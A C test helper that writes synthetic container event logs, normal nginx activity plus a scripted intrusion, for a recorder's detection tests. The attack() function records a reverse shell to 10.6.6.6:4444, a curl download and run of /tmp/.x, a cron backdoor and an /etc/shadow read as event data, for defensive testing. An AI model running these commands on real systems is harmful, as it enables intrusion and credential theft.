/* SPDX-License-Identifier: Apache-2.0 */
/*
 * fdr-modelgen: synthetic rings of a small web service container for the
 * model's CLI tests (tests/model/cli.sh). Synthetic, and says so (runtime
 * "synthetic"): the real-container evaluation is tests/model/scenarios.sh,
 * which needs fdr-record. Events follow DESIGN.md's fields.
 *
 *   fdr-modelgen DIR NAME MODE SEED HOURS
 *     MODE baseline|normal: HOURS hours of normal activity (nginx started by
 *       its entrypoint, workers dropping to uid 101, requests, cache files
 *       with counter names, an upstream resolved by DNS, an hourly
 *       `docker exec` health check);
 *     MODE attack: one hour of normal activity, then the attack steps, each
 *       announced on stdout as "step NAME TIME": reverse-shell,
 *       downloaded-binary, cron-persistence, credential-read, lateral,
 *       exec-into.
 *   Pids, temp names and cache names differ per SEED.
 *
 *   fdr-modelgen at RING SEQ INDEX
 *     Reads event INDEX of the block with sequence number SEQ back with the
 *     ring reader and prints "TIME PID KIND" (TIME as check --json writes it) (what a viewer jumping to a
 *     finding's event would show); exit 1 when there is no such event.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "fdr-ring.h"

#define T0 1764064800000000000ull	/* 2025-11-25T10:00:00Z */
#define S 1000000000ull

static struct fdr_ring_writer *W;
static struct fdr_event E;
static struct fdr_str V[8];
static uint64_t rng;

static unsigned rnd(unsigned n)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (unsigned)(rng % n);
}

static void add(void)
{
	int err = fdr_writer_append(W, &E);

	if (err < 0) {
		fprintf(stderr, "fdr-modelgen: cannot append: %s\n", fdr_strerror(err));
		exit(1);
	}
}

static void ev0(unsigned kind, uint64_t t, uint64_t pid)
{
	fdr_event_init(&E, kind, t);
	if (pid)
		fdr_event_set_u(&E, FDR_F_PID, pid);
}

static void exec_(uint64_t t, uint64_t pid, uint64_t ppid, bool fork, const char *exe, uint64_t uid,
		  const char *args)
{
	static char buf[512];
	unsigned n = 0;

	if (fork) {
		ev0(FDR_PROC_FORK, t, pid);
		fdr_event_set_u(&E, FDR_F_PPID, ppid);
		add();
	}
	ev0(FDR_PROC_EXEC, t + 1000, pid);
	fdr_event_set_u(&E, FDR_F_PPID, ppid);
	fdr_event_set_cstr(&E, FDR_F_EXE, exe);
	fdr_event_set_u(&E, FDR_F_UID, uid);
	fdr_event_set_u(&E, FDR_F_EUID, uid);
	snprintf(buf, sizeof(buf), "%s", args);
	for (char *p = strtok(buf, " "); p && n < 8; p = strtok(NULL, " "))
		V[n++] = fdr_str_c(p);
	fdr_event_set_strv(&E, FDR_F_ARGV, V, n);
	add();
}

static void exit_(uint64_t t, uint64_t pid)
{
	ev0(FDR_PROC_EXIT, t, pid);
	fdr_event_set_i(&E, FDR_F_EXIT_CODE, 0);
	add();
}

static void file(unsigned kind, uint64_t t, uint64_t pid, const char *path)
{
	ev0(kind, t, pid);
	fdr_event_set_cstr(&E, FDR_F_PATH, path);
	add();
}

static void net(unsigned kind, uint64_t t, uint64_t pid, const char *dst, uint64_t port)
{
	struct fdr_addr a;

	ev0(kind, t, pid);
	fdr_event_set_cstr(&E, FDR_F_PROTO, "tcp");
	if (kind == FDR_NET_LISTEN) {
		fdr_event_set_u(&E, FDR_F_SPORT, port);
	} else {
		fdr_addr_parse(&a, dst);
		fdr_event_set_addr(&E, FDR_F_DST, &a);
		fdr_event_set_u(&E, FDR_F_DPORT, port);
	}
	add();
}

static void docker_exec(uint64_t t, const char *cmd)
{
	ev0(FDR_DOCKER, t, 0);
	fdr_event_set_cstr(&E, FDR_F_ACTION, "exec_start");
	fdr_event_set_cstr(&E, FDR_F_COMMAND, cmd);
	add();
}

/* One hour of normal life starting at t; returns the worker pid. */
static uint64_t normal_hour(uint64_t t, uint64_t master, uint64_t *nextpid, unsigned *counter, bool start)
{
	uint64_t w1 = master + 1;
	char path[128];

	if (start) {
		exec_(t, master, 1, false, "/docker-entrypoint.sh", 0, "/docker-entrypoint.sh nginx -g daemon");
		uint64_t f = (*nextpid)++;

		exec_(t + S / 10, f, master, true, "/usr/bin/find", 0,
		      "find /docker-entrypoint.d/ -mindepth 1 -maxdepth 1 -type f -print -quit");
		exit_(t + S / 5, f);
		exec_(t + S / 2, master, 1, false, "/usr/sbin/nginx", 0, "nginx -g daemon");
		file(FDR_FILE_OPEN, t + S / 2, master, "/etc/nginx/nginx.conf");
		net(FDR_NET_LISTEN, t + S, master, NULL, 80);
		ev0(FDR_PROC_FORK, t + S, w1);
		fdr_event_set_u(&E, FDR_F_PPID, master);
		add();
		ev0(FDR_PROC_UID, t + S, w1);
		fdr_event_set_u(&E, FDR_F_UID, 101);
		fdr_event_set_u(&E, FDR_F_EUID, 101);
		add();
	}
	/* The upstream is found by DNS, as a service would. */
	ev0(FDR_DNS_QUERY, t + 2 * S, w1);
	fdr_event_set_cstr(&E, FDR_F_NAME, "api.internal");
	add();
	{
		static struct fdr_str ans[1];
		ans[0] = fdr_str_c("10.0.0.9");
		ev0(FDR_DNS_ANSWER, t + 2 * S, w1);
		fdr_event_set_cstr(&E, FDR_F_NAME, "api.internal");
		fdr_event_set_strv(&E, FDR_F_ANSWERS, ans, 1);
		add();
	}
	for (unsigned i = 0; i < 200; i++) {
		uint64_t ti = t + 3 * S + (uint64_t)i * 17 * S + rnd(1000) * 1000000ull;

		net(FDR_NET_ACCEPT, ti, w1, "10.0.0.1", 80);
		file(FDR_FILE_MODIFY, ti, w1, "/var/log/nginx/access.log");
		if (rnd(4) == 0) {
			snprintf(path, sizeof(path), "/var/cache/nginx/client_temp/%010u", ++*counter);
			file(FDR_FILE_CREATE, ti, w1, path);
			file(FDR_FILE_DELETE, ti + S / 100, w1, path);
		}
		if (rnd(3) == 0)
			net(FDR_NET_CONNECT, ti, w1, "10.0.0.9", 8080);
	}
	/* Hourly health check: docker exec curl. */
	{
		uint64_t th = t + 3500 * S, p = (*nextpid)++;

		docker_exec(th, "curl -fs http://localhost/");
		exec_(th, p, 999999, true, "/usr/bin/curl", 0, "curl -fs http://localhost/");
		net(FDR_NET_CONNECT, th, p, "127.0.0.1", 80);
		exit_(th + S / 10, p);
	}
	return w1;
}

static void attack(uint64_t t, uint64_t worker, uint64_t *nextpid)
{
	uint64_t sh = (*nextpid)++, bash = (*nextpid)++, curl = (*nextpid)++, x = (*nextpid)++;
	uint64_t esh = (*nextpid)++;

	printf("step reverse-shell %llu\n", (unsigned long long)t);
	exec_(t, sh, worker, true, "/bin/sh", 101, "sh -c bash -i");
	exec_(t + S, bash, sh, true, "/bin/bash", 101, "bash -i");
	net(FDR_NET_CONNECT, t + S, bash, "10.6.6.6", 4444);
	t += 60 * S;
	printf("step downloaded-binary %llu\n", (unsigned long long)t);
	exec_(t, curl, bash, true, "/usr/bin/curl", 101, "curl -so /tmp/.x http://10.6.6.6/x");
	net(FDR_NET_CONNECT, t, curl, "10.6.6.6", 80);
	file(FDR_FILE_CREATE, t + S, curl, "/tmp/.x");
	file(FDR_FILE_MODIFY, t + S, curl, "/tmp/.x");
	exit_(t + 2 * S, curl);
	exec_(t + 3 * S, x, bash, true, "/tmp/.x", 101, "/tmp/.x");
	t += 60 * S;
	printf("step cron-persistence %llu\n", (unsigned long long)t);
	file(FDR_FILE_CREATE, t, bash, "/etc/cron.d/backdoor");
	file(FDR_FILE_MODIFY, t, bash, "/etc/cron.d/backdoor");
	t += 60 * S;
	printf("step credential-read %llu\n", (unsigned long long)t);
	file(FDR_FILE_OPEN, t, bash, "/etc/shadow");
	t += 60 * S;
	printf("step lateral %llu\n", (unsigned long long)t);
	net(FDR_NET_CONNECT, t, x, "172.17.0.3", 22);
	net(FDR_NET_CONNECT, t + S, x, "172.17.0.4", 8080);
	t += 60 * S;
	printf("step exec-into %llu\n", (unsigned long long)t);
	docker_exec(t, "sh");
	exec_(t, esh, 999999, true, "/bin/sh", 0, "sh");
}

/* The "at" mode: locate an event by block seq and index. */
static int at(const char *path, const char *seqs, const char *idxs)
{
	struct fdr_ring_reader *rd;
	struct fdr_cursor *cur;
	struct fdr_event *ev = malloc(sizeof(*ev));
	uint64_t seq = strtoull(seqs, NULL, 10);
	unsigned long idx = strtoul(idxs, NULL, 10);
	int rc = 1, err;

	if (!ev)
		return 1;
	err = fdr_reader_open(path, &rd);
	if (err < 0) {
		fprintf(stderr, "fdr-modelgen: cannot open '%s': %s\n", path, fdr_strerror(err));
		goto out_ev;
	}
	if (fdr_cursor_new(&cur) < 0)
		goto out_reader;
	for (size_t b = 0; b < fdr_reader_nblocks(rd); b++) {
		if (fdr_reader_block(rd, b)->seq != seq)
			continue;
		if (fdr_cursor_load(cur, rd, b) < 0)
			break;
		for (unsigned long i = 0; (err = fdr_cursor_next(cur, ev)) > 0; i++) {
			if (i == idx) {
				time_t t = (time_t)(ev->time_ns / 1000000000u);
				struct tm tm;

				gmtime_r(&t, &tm);
				printf("%04d-%02d-%02dT%02d:%02d:%02d.%09lluZ %llu %s\n", tm.tm_year + 1900,
				       tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
				       (unsigned long long)(ev->time_ns % 1000000000u),
				       (unsigned long long)fdr_event_u(ev, FDR_F_PID, 0), fdr_kind_name(ev->kind));
				rc = 0;
				break;
			}
		}
		break;
	}
	if (rc)
		fprintf(stderr, "fdr-modelgen: no event %lu in block %llu of '%s'\n", idx,
			(unsigned long long)seq, path);
	fdr_cursor_free(cur);
out_reader:
	fdr_reader_free(rd);
out_ev:
	free(ev);
	return rc;
}

int main(int argc, char **argv)
{
	struct fdr_writer_opts o = FDR_WRITER_OPTS_INIT;
	struct fdr_ring_meta m;
	char path[4096];
	unsigned hours, counter = 0;
	uint64_t seed, nextpid, master, worker = 0, t;
	bool att;
	int err;

	if (argc == 5 && !strcmp(argv[1], "at"))
		return at(argv[2], argv[3], argv[4]);
	if (argc != 6 || (strcmp(argv[3], "baseline") && strcmp(argv[3], "normal") &&
			  strcmp(argv[3], "attack"))) {
		fprintf(stderr, "usage: fdr-modelgen DIR NAME baseline|normal|attack SEED HOURS\n"
			"       fdr-modelgen at RING SEQ INDEX\n");
		return 2;
	}
	att = !strcmp(argv[3], "attack");
	seed = strtoull(argv[4], NULL, 10);
	hours = (unsigned)atoi(argv[5]);
	if (att)
		hours = 1;
	rng = seed * 2654435761u + 88172645463325252ull;
	mkdir(argv[1], 0755);
	memset(&m, 0, sizeof(m));
	snprintf(m.hostname, sizeof(m.hostname), "node%llu", (unsigned long long)(seed % 3));
	snprintf(m.machine_id, sizeof(m.machine_id), "%032llx", (unsigned long long)seed + 1);
	snprintf(m.boot_id, sizeof(m.boot_id), "b%031llx", (unsigned long long)seed + 1);
	snprintf(m.runtime, sizeof(m.runtime), "synthetic");
	snprintf(m.container_id, sizeof(m.container_id), "%016llx%048x", (unsigned long long)seed, 7);
	snprintf(m.container_name, sizeof(m.container_name), "%s", argv[2]);
	snprintf(m.image, sizeof(m.image), "nginx:1.25");
	snprintf(m.image_id, sizeof(m.image_id), "sha256:4f1c9a0000000000000000000000000000000000000000000000000000e2");
	snprintf(m.command, sizeof(m.command), "/docker-entrypoint.sh nginx -g daemon off;");
	snprintf(m.ports, sizeof(m.ports), "80/tcp");
	t = T0 + seed * 7 * 24 * 3600 * S;
	m.created_ns = m.started_ns = t;
	o.sync = FDR_SYNC_NONE;
	o.file_size = 8u << 20;
	o.slot_size = 64u << 10;
	snprintf(path, sizeof(path), "%s/%s.ring", argv[1], argv[2]);
	err = fdr_writer_open(path, &m, &o, &W);
	if (err < 0) {
		fprintf(stderr, "fdr-modelgen: cannot create '%s': %s\n", path, fdr_strerror(err));
		return 1;
	}
	master = 1000 + rnd(30000);
	nextpid = master + 100;
	for (unsigned h = 0; h < hours; h++)
		worker = normal_hour(t + h * 3600 * S, master, &nextpid, &counter, h == 0);
	if (att)
		attack(t + 3600 * S, worker, &nextpid);
	err = fdr_writer_close(W);
	if (err < 0) {
		fprintf(stderr, "fdr-modelgen: cannot close '%s': %s\n", path, fdr_strerror(err));
		return 1;
	}
	return 0;
}
